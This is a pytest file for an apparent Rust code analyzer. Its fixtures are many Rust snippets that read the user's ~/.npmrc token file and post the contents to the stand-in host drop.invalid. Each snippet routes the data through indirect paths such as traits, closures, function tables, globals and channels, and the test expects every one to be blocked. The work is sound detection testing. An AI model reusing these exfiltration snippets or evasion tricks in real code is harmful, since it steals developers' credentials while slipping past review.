"""A value followed through what types, traits and holders join, without a call by name."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Report, Verdict

ReportOf = Callable[[Mapping[str, str]], Report]
READ = 'std::fs::read_to_string(dirs::home_dir().unwrap().join(".npmrc")).unwrap()'
SEND = 'ureq::post("https://drop.invalid/x").send_string'
BYTES = 'ureq::post("https://drop.invalid/x").send_bytes'
WRITER = f"""
        use std::io::{{self, Write}};
        pub struct W;
        impl Write for W {{
            fn write(&mut self, b: &[u8]) -> io::Result<usize> {{ {BYTES}(b).ok(); Ok(b.len()) }}
            fn flush(&mut self) -> io::Result<()> {{ Ok(()) }}
        }}"""
MANIFEST = """
[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[dependencies]
ureq = "2"
curl = "0.4"
dirs = "6"
serde = "1"
serde_json = "1"
crossbeam-channel = "0.5"
futures = "0.3"
url = "2"
tokio = { version = "1", features = ["full"] }
reqwest = { version = "0.12", features = ["blocking"] }
"""

PATTERNS = {
    "a variant in if let": f"""
        pub enum E {{ A(String), B }}
        impl E {{ pub fn new() -> E {{ E::A({READ}) }}
        pub fn go(&self) {{ if let E::A(t) = self {{ {SEND}(t).ok(); }} }} }}""",
    "a variant in match": f"""
        pub enum E {{ A {{ text: String }}, B }}
        pub fn make() -> E {{ E::A {{ text: {READ} }} }}
        pub fn go(e: E) {{ match e {{ E::A {{ text }} => {{ {SEND}(&text).ok();
            }} E::B => {{}} }} }}""",
    "variant self::": f"""
        pub enum E {{ A(u8, String), B }}
        impl E {{ pub fn make() -> Self {{ Self::A(1, {READ}) }}
        pub fn go(&self) {{ let Self::A(_, t) = self else {{ return }}; {SEND}(t).ok(); }} }}""",
    "map variant": f"""
        pub enum E {{ A(String) }}
        impl E {{ pub fn go(self) {{ match self {{ E::A(t) => {SEND}(&t).ok(), }}; }} }}
        pub fn make() -> Option<E> {{ Some({READ}).map(E::A) }}""",
    "tuple struct pattern": f"""
        pub struct S(u8, String);
        pub fn make() -> S {{ S(1, {READ}) }}
        pub fn go(S(_, t): &S) {{ {SEND}(t).ok(); }}""",
    "struct pattern": f"""
        pub struct S {{ k: String }}
        pub fn make() -> S {{ S {{ k: {READ} }} }}
        pub fn go(s: S) {{ let S {{ k }} = s; {SEND}(&k).ok(); }}""",
    "struct pattern renamed": f"""
        pub struct S {{ k: String }}
        pub fn make() -> S {{ S {{ k: {READ} }} }}
        pub fn go(S {{ k: other, .. }}: &S) {{ {SEND}(other).ok(); }}""",
    "closure pattern": f"""
        pub struct S {{ k: String }}
        pub fn make() -> S {{ S {{ k: {READ} }} }}
        pub fn go(all: &[S]) {{ all.iter().for_each(|S {{ k }}| {{ {SEND}(k).ok(); }}); }}""",
}
HANDED = {
    "closure sink boxed field": f"""
        pub struct S {{ f: Box<dyn Fn(String)> }}
        impl S {{ pub fn new() -> S {{ S {{ f: Box::new(|t| {{ {SEND}(&t).ok(); }}) }} }}
        pub fn go(&self) {{ (self.f)({READ}) }} }}""",
    "closure dyn passed": f"""
        fn each(f: &dyn Fn(&str)) {{ f(&{READ}); }}
        pub fn go() {{ let send = |t: &str| {{ {SEND}(t).ok(); }}; each(&send); }}""",
    "closure recursive dyn": f"""
        use std::path::Path;
        fn each(dir: &Path, d: u8, step: &dyn Fn(&str)) {{ if d > 0 {{ each(dir, d - 1, step);
            }} step(&{READ}); }}
        pub fn go() {{ let send = |t: &str| {{ {SEND}(t).ok(); }}; each(Path::new("/"), 2, &send);
            }}""",
    "closure named in iter": f"""
        pub fn go() {{ let one = |n: &&str| std::fs::read_to_string(dirs::home_dir().unwrap().join(n)).ok(); let v: Vec<String> = [".npmrc", ".x"].iter().filter_map(one).collect(); out(&v.join("")); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "fn pointer passed": f"""
        fn each(f: fn(&str)) {{ f(&{READ}); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        pub fn go() {{ each(out); }}""",
    "fn pointer table": f"""
        const T: [fn(&str); 1] = [out];
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        pub fn go() {{ let k = {READ}; for f in T {{ f(&k); }} }}""",
    "fn pointer field": f"""
        pub struct S {{ f: fn(&str) }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        impl S {{ pub fn new() -> S {{ S {{ f: out }} }}
        pub fn go(&self) {{ (self.f)(&{READ}) }} }}""",
    "const generic fn table": f"""
        struct Row {{ run: fn(&str) }}
        const ROWS: &[Row] = &[Row {{ run: out }}];
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        pub fn go() {{ let k = {READ}; for row in ROWS {{ (row.run)(&k); }} }}""",
    "static fn": f"""
        static F: fn(&str) = out;
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        pub fn go() {{ let k = {READ}; F(&k); }}""",
    "hashmap of fns": f"""
        use std::collections::HashMap;
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        pub fn make() -> HashMap<&'static str, fn(&str)> {{ let mut m: HashMap<&'static str,
            fn(&str)> = HashMap::new(); m.insert("a", out); m }}
        pub fn go() {{ let k = {READ}; if let Some(f) = make().get("a") {{ f(&k); }} }}""",
    "hook vec": f"""
        pub struct S {{ hooks: Vec<Box<dyn Fn(&str)>> }}
        impl S {{ pub fn add(&mut self) {{ self.hooks.push(Box::new(|t| {{ {SEND}(t).ok(); }})); }}
        pub fn go(&self) {{ let k = {READ}; for h in &self.hooks {{ h(&k); }} }} }}""",
    "hook static": f"""
        use std::sync::OnceLock;
        static H: OnceLock<Box<dyn Fn(&str) + Send + Sync>> = OnceLock::new();
        pub fn add() {{ H.set(Box::new(|t| {{ {SEND}(t).ok(); }})).ok(); }}
        pub fn go() {{ let k = {READ}; if let Some(h) = H.get() {{ h(&k); }} }}""",
    "hook static fn": f"""
        use std::sync::OnceLock;
        static H: OnceLock<fn(&str)> = OnceLock::new();
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        pub fn add() {{ H.set(out).ok(); }}
        pub fn go() {{ let k = {READ}; (H.get().unwrap())(&k); }}""",
    "builder callback": f"""
        pub struct S<F> {{ f: F }}
        impl<F: Fn(String)> S<F> {{ pub fn on(f: F) -> Self {{ S {{ f }} }}
        pub fn go(&self) {{ (self.f)({READ}); }} }}
        pub fn make() -> S<impl Fn(String)> {{ S::on(|t| {{ {SEND}(&t).ok(); }}) }}""",
    "arc dyn fn field": f"""
        use std::sync::Arc;
        #[derive(Default)] pub struct S {{ f: Option<Arc<dyn Fn(&str)>> }}
        impl S {{ pub fn set(&mut self) {{ self.f = Some(Arc::new(|t: &str| {{ {SEND}(t).ok();
            }})); }}
        pub fn go(&self) {{ if let Some(f) = &self.f {{ f(&{READ}); }} }} }}""",
    "as_ref fn field": f"""
        pub struct S {{ f: Option<fn(&str)> }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}
        impl S {{ pub fn new() -> S {{ S {{ f: Some(out) }} }}
        pub fn go(&self) {{ self.f.map(|f| f(&{READ})); }} }}""",
}
IMPLIED = {
    "write impl sink": f"""
        {WRITER}
        pub fn go() {{ W.write_all({READ}.as_bytes()).ok(); }}""",
    "write macro impl sink": f"""
        {WRITER}
        pub fn go() {{ let mut w = W; write!(w, "{{}}", {READ}).ok(); }}""",
    "io copy impl sink": f"""
        {WRITER}
        pub fn go() {{ let mut f = std::fs::File::open(dirs::home_dir().unwrap().join(".npmrc")).unwrap(); io::copy(&mut f, &mut W).ok(); }}""",
    "fmt write impl sink": f"""
        use std::fmt::Write;
        pub struct W;
        impl Write for W {{ fn write_str(&mut self, b: &str) -> std::fmt::Result {{ {SEND}(b).ok();
            Ok(()) }} }}
        pub fn go() {{ write!(W, "{{}}", {READ}).ok(); }}""",
    "bufwriter of own": f"""
        {WRITER}
        pub fn go() {{ let mut w = io::BufWriter::new(W); w.write_all({READ}.as_bytes()).ok(); }}""",
    "to_writer of own": f"""
        {WRITER}
        pub fn go() {{ serde_json::to_writer(W, &{READ}).ok(); }}""",
    "write generic": f"""
        {WRITER}
        fn put(w: &mut impl Write) {{ w.write_all({READ}.as_bytes()).ok(); }}
        pub fn go() {{ put(&mut W); }}""",
    "write dyn": f"""
        {WRITER}
        pub fn sink() -> Box<dyn Write> {{ Box::new(W) }}
        pub fn go() {{ sink().write_all({READ}.as_bytes()).ok(); }}""",
    "hash impl": f"""
        use std::hash::{{Hash, Hasher}};
        pub struct H;
        impl Hasher for H {{ fn write(&mut self, b: &[u8]) {{ {BYTES}(b).ok(); }}
        fn finish(&self) -> u64 {{ 0 }} }}
        pub fn go() {{ {READ}.hash(&mut H); }}""",
    "fromiterator sink": f"""
        pub struct W;
        impl FromIterator<String> for W {{
            fn from_iter<I: IntoIterator<Item = String>>(i: I) -> W {{ for t in i {{
            {SEND}(&t).ok(); }} W }} }}
        pub fn go() {{ let _: W = vec![{READ}].into_iter().collect(); }}""",
    "into sink": f"""
        struct P;
        impl From<String> for P {{ fn from(t: String) -> P {{ {SEND}(&t).ok(); P }} }}
        pub fn go() {{ let k = {READ}; let _: P = k.into(); }}""",
    "into arg": f"""
        pub struct P;
        impl From<&str> for P {{ fn from(t: &str) -> P {{ {SEND}(t).ok(); P }} }}
        fn eat(p: P) {{ drop(p) }}
        pub fn go() {{ let k = {READ}; eat(k.as_str().into()); }}""",
    "map into": f"""
        pub struct P;
        impl From<String> for P {{ fn from(t: String) -> P {{ {SEND}(&t).ok(); P }} }}
        pub fn go() -> Option<P> {{ Some({READ}).map(Into::into) }}""",
    "question mark From": f"""
        struct E;
        impl From<String> for E {{ fn from(t: String) -> E {{ {SEND}(&t).ok(); E }} }}
        fn load() -> Result<(), String> {{ Err({READ}) }}
        pub fn go() -> Result<(), E> {{ load()?; Ok(()) }}""",
    "parse sink": f"""
        pub struct P;
        impl std::str::FromStr for P {{ type Err = ();
        fn from_str(t: &str) -> Result<P, ()> {{ {SEND}(t).ok(); Ok(P) }} }}
        pub fn go() {{ let k = {READ}; let _ = k.parse::<P>(); }}""",
    "tryfrom sink": f"""
        pub struct P;
        impl TryFrom<String> for P {{ type Error = ();
        fn try_from(t: String) -> Result<P, ()> {{ {SEND}(&t).ok(); Ok(P) }} }}
        pub fn go() -> Result<P, ()> {{ let k = {READ}; k.try_into() }}""",
    "blanket trait": f"""
        trait Deliver {{ fn deliver(&self); }}
        impl<T: AsRef<str>> Deliver for Vec<T> {{ fn deliver(&self) {{ for i in self {{
            {SEND}(i.as_ref()).ok(); }} }} }}
        pub fn go() {{ load().deliver(); }}
        fn load() -> Vec<String> {{ vec![{READ}] }}""",
    "blanket on T": f"""
        trait Deliver {{ fn deliver(&self); }}
        impl<T: AsRef<str> + ?Sized> Deliver for T {{ fn deliver(&self) {{
            {SEND}(self.as_ref()).ok(); }} }}
        pub fn go() {{ let k = {READ}; k.deliver(); }}""",
    "ext trait str": f"""
        trait Up {{ fn up(self); }}
        impl Up for String {{ fn up(self) {{ {SEND}(&self).ok(); }} }}
        pub fn go() {{ {READ}.up(); }}""",
    "impl stream poll": f"""
        use std::pin::Pin;
        use std::task::{{Context, Poll}};
        pub struct S;
        impl futures::Stream for S {{ type Item = String;
        fn poll_next(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<Option<String>> {{
            Poll::Ready(Some({READ})) }} }}
        pub async fn go(mut s: S) {{ use futures::StreamExt; while let Some(t) = s.next().await {{
            out(t).await; }} }}
        async fn out(t: String) {{
            reqwest::Client::new().post("https://drop.invalid/x").body(t).send().await.ok(); }}""",
    "display format": f"""
        use std::fmt;
        struct P;
        impl fmt::Display for P {{ fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {{
            for b in {READ}.bytes() {{ write!(f, "{{b:02x}}")?; }} Ok(()) }} }}
        pub fn go() {{ let t = format!("{{P}}"); out(&t); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "lowerhex": f"""
        use std::fmt;
        struct P;
        impl fmt::LowerHex for P {{ fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {{
            for b in {READ}.bytes() {{ fmt::LowerHex::fmt(&b, f)?; }} Ok(()) }} }}
        pub fn go() {{ out(&format!("{{:x}}", P)); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "serde impl": f"""
        pub struct R;
        impl serde::Serialize for R {{ fn serialize<S: serde::Serializer>(&self,
            s: S) -> Result<S::Ok, S::Error> {{ s.serialize_str(&{READ}) }} }}
        pub fn go() {{ out(&serde_json::to_string(&R).unwrap()); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "serde serialize_with": f"""
        #[derive(serde::Serialize)] struct R {{ #[serde(serialize_with = "put")] k: u8 }}
        fn put<S: serde::Serializer>(_: &u8, s: S) -> Result<S::Ok, S::Error> {{
            s.serialize_str(&{READ}) }}
        pub fn go() {{ out(&serde_json::to_string(&R {{ k: 1 }}).unwrap()); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "panic hook": f"""
        pub fn go() {{ std::panic::set_hook(Box::new(|i| {{ {SEND}(&i.to_string()).ok(); }}));
            panic!("{{}}", {READ}); }}""",
}
SHARED = {
    "mutex guard local": f"""
        use std::sync::Mutex;
        static K: Mutex<Option<String>> = Mutex::new(None);
        pub fn load() {{ let mut g = K.lock().unwrap(); *g = Some({READ}); }}
        pub fn go() {{ let g = K.lock().unwrap(); if let Some(t) = &*g {{ {SEND}(t).ok(); }} }}""",
    "mutex guard push": f"""
        use std::sync::Mutex;
        static K: Mutex<Vec<String>> = Mutex::new(Vec::new());
        pub fn load() {{ let mut g = K.lock().unwrap(); g.push({READ}); }}
        pub fn go() {{ let g = K.lock().unwrap(); for t in g.iter() {{ {SEND}(t).ok(); }} }}""",
    "mutex if let": f"""
        use std::sync::Mutex;
        static K: Mutex<Vec<String>> = Mutex::new(Vec::new());
        pub fn load() {{ if let Ok(mut g) = K.lock() {{ g.push({READ}); }} }}
        pub fn go() {{ if let Ok(g) = K.lock() {{ for t in g.iter() {{ {SEND}(t).ok(); }} }} }}""",
    "static mut addr": f"""
        static mut K: Option<String> = None;
        pub fn load() {{ unsafe {{ *std::ptr::addr_of_mut!(K) = Some({READ}); }} }}
        pub fn go() {{ unsafe {{ if let Some(t) = K.as_ref() {{ {SEND}(t).ok(); }} }} }}""",
    "thread_local": f"""
        use std::cell::RefCell;
        thread_local! {{ static K: RefCell<String> = RefCell::new(String::new()); }}
        pub fn load() {{ K.with(|k| *k.borrow_mut() = {READ}); }}
        pub fn go() {{ K.with(|k| {{ {SEND}(&k.borrow()).ok(); }}); }}""",
    "thread_local take": f"""
        use std::cell::Cell;
        thread_local! {{ static K: Cell<Option<String>> = Cell::new(None); }}
        pub fn load() {{ K.with(|c| c.set(Some({READ}))); }}
        pub fn go() {{ if let Some(t) = K.with(Cell::take) {{ {SEND}(&t).ok(); }} }}""",
    "assoc static ref": f"""
        pub struct G;
        impl G {{ fn cell() -> &'static std::sync::OnceLock<String> {{
            static C: std::sync::OnceLock<String> = std::sync::OnceLock::new(); &C }}
        pub fn load() {{ Self::cell().set({READ}).ok(); }}
        pub fn go() {{ {SEND}(Self::cell().get().unwrap()).ok(); }} }}""",
    "mpsc static sender": f"""
        use std::sync::{{mpsc::{{self, Sender}}, OnceLock}};
        static TX: OnceLock<Sender<String>> = OnceLock::new();
        pub fn start() {{ let (tx, rx) = mpsc::channel::<String>(); TX.set(tx).ok();
            std::thread::spawn(move || {{ while let Ok(t) = rx.recv() {{ {SEND}(&t).ok(); }} }}); }}
        pub fn load() {{ if let Some(tx) = TX.get() {{ tx.send({READ}).ok(); }} }}""",
    "crossbeam": f"""
        pub fn go() {{ let (s, r) = crossbeam_channel::unbounded();
            let h = std::thread::spawn(move || {{ for t in r.iter() {{ send(t); }} }}); load(&s);
            h.join().unwrap(); }}
        fn load(s: &crossbeam_channel::Sender<String>) {{ s.send({READ}).unwrap(); }}
        fn send(t: String) {{ {SEND}(&t).ok(); }}""",
    "arc mutex thread": f"""
        use std::sync::{{Arc, Mutex}};
        pub fn go() {{ let k = Arc::new(Mutex::new(String::new())); let c = Arc::clone(&k);
            std::thread::spawn(move || {{ *c.lock().unwrap() = {READ}; }}).join().unwrap();
            out(&k.lock().unwrap()); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "arc mutex clone method": f"""
        use std::sync::{{Arc, Mutex}};
        pub fn go() {{ let k = Arc::new(Mutex::new(Vec::new())); {{ let k = k.clone();
            std::thread::spawn(move || {{ k.lock().unwrap().push({READ}); }});
            }} for t in k.lock().unwrap().iter() {{ out(t) }} }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "iter_mut zip": f"""
        pub fn go() {{ let k = {READ}; let mut o = vec![0u8; 64]; for (a,
            b) in o.iter_mut().zip(k.bytes()) {{ *a = b; }} out(&o); }}
        fn out(t: &[u8]) {{ {BYTES}(t).ok(); }}""",
    "iter_mut for_each": f"""
        pub fn go() {{ let k = {READ}; let mut o = vec![0u8; 64];
            o.iter_mut().zip(k.bytes()).for_each(|(a, b)| *a = b); out(&o); }}
        fn out(t: &[u8]) {{ {BYTES}(t).ok(); }}""",
    "ptr copy": f"""
        pub fn go() {{ let k = {READ}; let mut o = vec![0u8; 64]; unsafe {{
            std::ptr::copy_nonoverlapping(k.as_ptr(), o.as_mut_ptr(), 4); }} out(&o); }}
        fn out(t: &[u8]) {{ {BYTES}(t).ok(); }}""",
    "labelled block": f"""
        pub fn go() {{ let t = 'a: {{ if true {{ break 'a {READ}; }} String::new() }}; out(&t); }}
        fn out(t: &str) {{ {SEND}(t).ok(); }}""",
    "tokio select": f"""
        async fn load() -> String {{ {READ} }}
        pub async fn go() {{ tokio::select! {{ t = load() => out(t).await,
            _ = tokio::time::sleep(std::time::Duration::from_secs(9)) => {{}} }} }}
        async fn out(t: String) {{
            reqwest::Client::new().post("https://drop.invalid/x").body(t).send().await.ok(); }}""",
    "curl read_function": f"""
        use std::io::Read;
        pub fn go() {{ let k = {READ}; let mut b = k.as_bytes();
            let mut e = curl::easy::Easy::new(); e.url("https://drop.invalid/x").unwrap();
            e.post(true).unwrap(); let mut t = e.transfer();
            t.read_function(|o| Ok(b.read(o).unwrap_or(0))).unwrap(); t.perform().unwrap(); }}""",
    "tcp param": f"""
        use std::io::Write;
        fn put<W: Write>(mut w: W) {{ w.write_all({READ}.as_bytes()).ok(); }}
        pub fn go() {{ put(std::net::TcpStream::connect("drop.invalid:80").unwrap()); }}""",
    "url join": f"""
        pub fn go() {{ let u = url::Url::parse("https://drop.invalid").and_then(|u| u.join("/v2/x")).unwrap(); let k = {READ}; ureq::post(u.as_str()).send_string(&k).ok(); }}""",
    "url set_path": f"""
        pub fn go() {{ let mut u = url::Url::parse("https://drop.invalid").unwrap();
            u.set_path("/x"); u.set_query(Some(&{READ})); ureq::get(u.as_str()).call().ok(); }}""",
    "url query_pairs_mut": f"""
        pub fn go() {{ let mut u = url::Url::parse("https://drop.invalid").unwrap();
            u.query_pairs_mut().append_pair("k", &{READ}); ureq::get(u.as_str()).call().ok(); }}""",
    "url parse_with_params": f"""
        pub fn go() {{ let u = url::Url::parse_with_params("https://drop.invalid/x", &[("k",
            {READ})]).unwrap(); ureq::get(u.as_str()).call().ok(); }}""",
}


@pytest.mark.parametrize(
    "source",
    [*PATTERNS.values(), *HANDED.values(), *IMPLIED.values(), *SHARED.values()],
    ids=[*PATTERNS, *HANDED, *IMPLIED, *SHARED],
)
def test_the_value_is_followed(report_of: ReportOf, source: str) -> None:
    report = report_of({"src/lib.rs": source, "Cargo.toml": MANIFEST})
    assert report.verdict is Verdict.BLOCK
    assert any(one.path for one in report.findings)
